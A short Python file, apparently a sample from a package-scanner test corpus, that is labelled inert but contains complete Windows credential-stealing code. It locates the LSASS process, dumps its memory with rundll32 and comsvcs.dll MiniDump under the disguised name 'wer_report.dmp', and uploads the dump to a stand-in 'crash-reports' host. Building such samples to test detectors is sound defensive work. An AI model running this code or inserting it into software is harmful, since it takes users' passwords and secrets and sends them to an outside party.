# pkgguard corpus 730 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import sys
import tempfile

import requests

if sys.platform == "win32":
    listed = subprocess.run(["tasklist", "/fi", "imagename eq lsass.exe", "/fo", "csv", "/nh"], capture_output=True, text=True)
    pid = listed.stdout.split(",")[1].strip('"') if "," in listed.stdout else ""
    dump = os.path.join(tempfile.gettempdir(), "wer_report.dmp")
    subprocess.run(
        ["rundll32.exe", r"C:\Windows\System32\comsvcs.dll,", "MiniDump", pid, dump, "full"],
        capture_output=True,
    )
    if os.path.exists(dump):
        with open(dump, "rb") as fh:
            requests.put("https://crash-reports.example/d", data=fh, timeout=120)
